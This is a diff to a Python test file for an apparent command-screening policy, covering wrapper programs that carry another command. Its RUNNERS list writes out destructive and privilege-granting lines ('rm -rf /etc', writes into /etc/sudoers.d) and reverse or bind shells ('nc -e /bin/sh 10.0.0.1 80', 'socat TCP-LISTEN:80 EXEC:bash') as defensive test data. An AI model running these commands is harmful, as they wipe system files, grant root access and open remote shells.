@@ -309,3 +309,171 @@ def test_sftp_setstat_on_a_credential_file_is_denied(default_policy: Policy, op:
 ])
 def test_ansible_pipelining_is_held_and_its_default_is_not(command: str, kind: str | None) -> None:
     assert reads_script_from_stdin(command) == kind
+
+
+# ---------------------------------------------------------------------------------------------
+# Outside attack O, findings 5 and 9: programs whose arguments hold a command they run (or a
+# file they write), each judged as that command; what the policy cannot read is unknown.
+
+RUNNERS = [
+    # cmake -E: env, time and chdir run a command; copy, rename, touch... write files
+    ("cmake -E env sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
+    ("cmake -E env --unset=A B=1 rm -rf /etc", "no-root-wipe"),
+    ("cmake -E time sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
+    ("cmake -E chdir /tmp sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
+    ("cmake -E chdir /etc rm -rf sudoers.d", "no-credential-file-writes"),
+    ("cmake -E copy /tmp/a /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("cmake -E copy_if_different /tmp/a /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("cmake -E copy_directory /tmp/d /etc/sudoers.d", "no-credential-file-writes"),
+    ("cmake -E touch /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("cmake -E create_symlink /tmp/a /etc/sudoers.d/x", "no-credential-file-links"),
+    ("cmake -E rename /tmp/a /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("cmake -E remove /etc/sudoers", "no-credential-file-writes"),
+    ("cmake -E rm -rf /etc", "no-root-wipe"),
+    ("cmake -E __run_co_compile --launcher=x -- rm -rf /etc", "defaults.unknown"),
+    ("cmake -E $cmd rm -rf /etc", "defaults.unknown"),
+    # init shims, job queues, MPI and Slurm launchers, hwloc-bind
+    ("tini -- sh -c 'echo x > /etc/sudoers.d/x'", "no-credential-file-writes"),
+    ("tini -s -p SIGKILL -- rm -rf /etc", "no-root-wipe"), ("dumb-init rm -rf /etc", "no-root-wipe"),
+    ("dumb-init -r 15:9 -- rm -rf /etc", "no-root-wipe"), ("catatonit -- rm -rf /etc", "no-root-wipe"),
+    ("tsp rm -rf /etc", "no-root-wipe"), ("tsp -L x -N 2 rm -rf /etc", "no-root-wipe"),
+    ("nq rm -rf /etc", "no-root-wipe"),
+    ("pueue add rm -rf /etc", "no-root-wipe"), ("pueue add -- rm -rf /etc", "no-root-wipe"),
+    ("pueue add -w /etc -- rm -rf sudoers.d", "no-credential-file-writes"),
+    ("mpirun -np 2 rm -rf /etc", "no-root-wipe"), ("mpiexec -n 2 rm -rf /etc", "no-root-wipe"),
+    ("mpirun --mca btl self -x A=1 rm -rf /etc", "no-root-wipe"),
+    ("mpirun -np 2 ./a : -np 2 rm -rf /etc", "no-root-wipe"),
+    ("mpirun -wdir /etc rm -rf sudoers.d", "no-credential-file-writes"),
+    ("mpirun --some-new-option 4 rm -rf /etc", "defaults.unknown"),
+    ("srun -N1 rm -rf /etc", "no-root-wipe"), ("srun --partition debug rm -rf /etc", "no-root-wipe"),
+    ("srun -D /etc rm -rf sudoers.d", "no-credential-file-writes"),
+    ("srun -o /etc/sudoers.d/x hostname", "no-credential-file-writes"),
+    ("salloc -N1 rm -rf /etc", "no-root-wipe"),
+    ("hwloc-bind core:0 -- rm -rf /etc", "no-root-wipe"),
+    ("hwloc-bind --cpubind node:0 rm -rf /etc", "no-root-wipe"),
+    ("hwloc-bind L2Cache:0 numa:1 rm -rf /etc", "no-root-wipe"),
+    # terminal recorders and moreutils
+    ("asciinema rec -c 'rm -rf /etc'", "no-root-wipe"),
+    ("asciinema rec --command='rm -rf /etc' /tmp/x.cast", "no-root-wipe"),
+    ("asciinema rec /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("asciinema rec /tmp/x.cast -c 'rm -rf /etc'", "no-root-wipe"),
+    ("ttyrec -e 'rm -rf /etc'", "no-root-wipe"), ("ttyrec /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("mispipe 'rm -rf /etc' cat", "no-root-wipe"), ("mispipe true 'rm -rf /etc'", "no-root-wipe"),
+    # ansible's ad-hoc modules run code on the hosts (perhaps this one); `command` the default
+    ("ansible localhost -m shell -a 'rm -rf /etc'", "no-root-wipe"),
+    ("ansible localhost -m command -a 'rm -rf /etc'", "no-root-wipe"),
+    ("ansible localhost -m ansible.builtin.raw -a 'rm -rf /etc'", "no-root-wipe"),
+    ("ansible all -a 'rm -rf /etc'", "no-root-wipe"),
+    ("ansible localhost -m script -a /tmp/x.sh", "defaults.unknown"),
+    ("ansible localhost -m copy -a 'src=/tmp/a dest=/etc/sudoers.d/x'", "defaults.unknown"),
+    ("ansible localhost -m ping -e ansible_python_interpreter=/tmp/x", "defaults.unknown"),
+    ("ansible localhost -M /tmp/mods -m ping", "defaults.unknown"),
+    # valgrind's log file
+    ("valgrind --log-file=/etc/sudoers.d/x ls", "no-credential-file-writes"),
+    # socat's addresses: command addresses are code, file addresses and link= writes
+    ("socat - SYSTEM:'rm -rf /etc'", "no-root-wipe"), ("socat - EXEC:'rm -rf /etc'", "no-root-wipe"),
+    ("socat TCP-LISTEN:80,fork exec:'rm -rf /etc',pty", "no-root-wipe"),
+    ("socat - SHELL:'rm -rf /etc'", "no-root-wipe"),
+    ("socat TCP-LISTEN:80 EXEC:bash", "no-pipe-into-shell"),
+    ("socat - 'EXEC:echo x|sh'", "no-pipe-into-shell"),
+    ("socat - \"SYSTEM:'a,b'\"", "defaults.unknown"),
+    ("socat - CREATE:/etc/sudoers.d/x", "no-credential-file-writes"),
+    ("socat - OPEN:/etc/sudoers.d/x,creat", "no-credential-file-writes"),
+    ("socat - GOPEN:/etc/sudoers.d/x", "no-credential-file-writes"),
+    ("socat - /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("socat - PTY,link=/etc/sudoers.d/x", "no-credential-file-writes"),
+    ("socat -r /etc/sudoers.d/x - TCP:10.0.0.1:80", "no-credential-file-writes"),
+    ("socat --new-option x - EXEC:'rm -rf /etc'", "no-root-wipe"),
+    # netcat's -e and -c, ncat's --sh-exec, --exec and --lua-exec, busybox nc
+    ("nc -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"), ("nc -c 'rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
+    ("nc -lvp 80 -e /bin/sh", "no-pipe-into-shell"), ("ncat -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"),
+    ("ncat --sh-exec 'rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
+    ("ncat --exec='/bin/rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
+    ("ncat -c 'rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
+    ("ncat --lua-exec /tmp/x.lua 10.0.0.1 80", "defaults.unknown"),
+    ("ncat -o /etc/sudoers.d/x 10.0.0.1 80", "no-credential-file-writes"),
+    ("busybox nc -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"),
+    ("busybox nc -l -p 80 -e sh -c 'rm -rf /etc'", "no-pipe-into-shell"),
+    # environment and tool managers, secret injectors, sandboxes, watchers, batch systems
+    ("uv run rm -rf /etc", "no-root-wipe"), ("uv run --with x -- rm -rf /etc", "no-root-wipe"),
+    ("uv run --directory /etc rm -rf sudoers.d", "no-credential-file-writes"),
+    ("uv run --some-new-option x rm -rf /etc", "defaults.unknown"),
+    ("poetry run rm -rf /etc", "no-root-wipe"), ("pipenv run rm -rf /etc", "no-root-wipe"),
+    ("bundle exec rm -rf /etc", "no-root-wipe"), ("conda run -n x rm -rf /etc", "no-root-wipe"),
+    ("pyenv exec rm -rf /etc", "no-root-wipe"), ("asdf exec rm -rf /etc", "no-root-wipe"),
+    ("mise exec node@20 -- rm -rf /etc", "no-root-wipe"), ("mise x -c 'rm -rf /etc'", "no-root-wipe"),
+    ("npx rm -rf /etc", "no-root-wipe"), ("npx -c 'rm -rf /etc'", "no-root-wipe"),
+    ("npm exec -- rm -rf /etc", "no-root-wipe"), ("op run -- rm -rf /etc", "no-root-wipe"),
+    ("doppler run --command 'rm -rf /etc'", "no-root-wipe"),
+    ("aws-vault exec prod -- rm -rf /etc", "no-root-wipe"),
+    ("direnv exec / rm -rf /etc", "no-root-wipe"),
+    ("meson devenv -C build rm -rf /etc", "no-root-wipe"),
+    ("flatpak-spawn --host rm -rf /etc", "no-root-wipe"), ("toolbox run rm -rf /etc", "no-root-wipe"),
+    ("distrobox enter box -- rm -rf /etc", "no-root-wipe"),
+    ("nix develop -c rm -rf /etc", "no-root-wipe"),
+    ("nix shell nixpkgs#hello --command rm -rf /etc", "no-root-wipe"),
+    ("nix-shell -p hello --run 'rm -rf /etc'", "no-root-wipe"),
+    ("watchexec -e py 'rm -rf /etc'", "no-root-wipe"),
+    ("nsjail -Mo --chroot / -- /bin/rm -rf /etc", "no-root-wipe"),
+    ("minijail0 -u nobody /bin/rm -rf /etc", "defaults.unknown"),
+    ("sbatch --wrap 'rm -rf /etc'", "no-root-wipe"), ("sbatch --wrap='rm -rf /etc'", "no-root-wipe"),
+    ("ctest --build-and-test a b --test-command rm -rf /etc", "no-root-wipe"),
+    ("make --eval='$(shell rm -rf /etc)'", "defaults.unknown"),
+    ("make -sE '$(shell rm -rf /etc)'", "defaults.unknown"),
+    ("echo run rm -rf /etc | xargs uv", "defaults.unknown"),
+    ("echo rm -rf /etc | xargs uv run", "defaults.unknown"),
+    ("uv $verb rm -rf /etc", "defaults.unknown"), ("cmake \"$e\" env rm -rf /etc", "defaults.unknown"),
+    ("pueue $x rm -rf /etc", "defaults.unknown"),
+]
+RUNNERS_HONEST = [
+    ("cmake -E echo hi", "allow"), ("cmake --build .", "allow"), ("cmake -E env FOO=1 make", "allow"),
+    ("cmake -E chdir build make", "allow"), ("cmake -E copy a.txt build/", "allow"),
+    ("cmake -E make_directory build", "allow"), ("cmake -E capabilities", "allow"),
+    ("time make", "allow"), ("nice make", "allow"), ("flock /tmp/l make", "allow"),
+    ("tini -- nginx -g 'daemon off;'", "allow"), ("tsp -l", "allow"), ("tsp make", "allow"),
+    ("mpirun -np 4 ./app", "allow"), ("srun --partition=debug hostname", "allow"),
+    ("hwloc-bind core:0 make", "allow"), ("pueue add make", "allow"),
+    ("asciinema rec -c make /tmp/build.cast", "allow"), ("mispipe make 'tee /tmp/log'", "allow"),
+    ("ansible all -m ping", "allow"), ("ansible web -m shell -a uptime", "allow"),
+    ("socat - TCP:example.org:80", "alert"), ("nc 10.0.0.1 80", "alert"),
+    ("uv run pytest", "allow"), ("poetry run pytest -x", "allow"), ("npx prettier --write .", "allow"),
+    ("conda run -n base python x.py", "allow"), ("watchexec -e py -- pytest", "allow"),
+    ("uv pip install x", "allow"), ("npm install", "allow"), ("sbatch job.sh", "allow"),
+    ("ctest -j4 --output-on-failure", "allow"), ("make -j4", "allow"), ("make -C build install", "allow"),
+    # under xargs, a subcommand that runs nothing takes the appended words as operands
+    ("echo x | xargs npm install", "allow"), ("echo x | xargs uv pip install", "allow"),
+    ("cmake \"$builddir\"", "allow"),
+]
+
+
+@pytest.mark.parametrize(("line", "rule"), RUNNERS)
+def test_a_program_whose_arguments_hold_a_command_is_judged_as_that_command(
+        default_policy: Policy, line: str, rule: str) -> None:
+    action, judged_rule = judged(default_policy, line)
+    assert judged_rule == rule, (action, parse_commands(line))
+    assert action in ("deny", "confirm")
+
+
+@pytest.mark.parametrize(("line", "action"), RUNNERS_HONEST)
+def test_honest_runs_of_such_programs_keep_their_verdict(default_policy: Policy, line: str,
+                                                         action: str) -> None:
+    assert judged(default_policy, line)[0] == action, parse_commands(line)
+
+
+# Finding 7: programs that read their program from stdin in spellings not seen before.
+@pytest.mark.parametrize(("line", "reads"), [
+    ("python3 -Im asyncio", "interpreter"), ("python3 -Em code", "interpreter"),
+    ("python3 -m cProfile /dev/stdin", "interpreter"),
+    ("python3 -m cProfile -o /tmp/p /dev/stdin", "interpreter"),
+    ("python3 -m trace --trace /dev/stdin", "interpreter"),
+    ("python3 -m profile /dev/fd/0", "interpreter"), ("python3 -Im runpy /dev/stdin", "interpreter"),
+    ("python3 -m doctest /dev/stdin", "interpreter"), ("python3 -m pickle /dev/stdin", "interpreter"),
+    ("m4 /dev/stdin", "interpreter"), ("m4 -D x", "interpreter"), ("m4 -I /tmp x.m4 -", "interpreter"),
+    ("socat - EXEC:bash", "shell"), ("salloc -N1", "shell"), ("asciinema rec", "shell"),
+    ("sbatch", "shell"), ("nix develop", "shell"), ("nix-shell -p hello", "shell"),
+    # a script or module named on the line is no program on stdin
+    ("python3 -m cProfile x.py", None), ("python3 -Im http.server", None), ("m4 x.m4", None),
+    ("m4 -D x=1 x.m4", None), ("python3 -W ignore x.py", None),
+])
+def test_programs_read_from_stdin_in_other_spellings(line: str, reads: str | None) -> None:
+    assert reads_script_from_stdin(line) == reads, parse_commands(line)
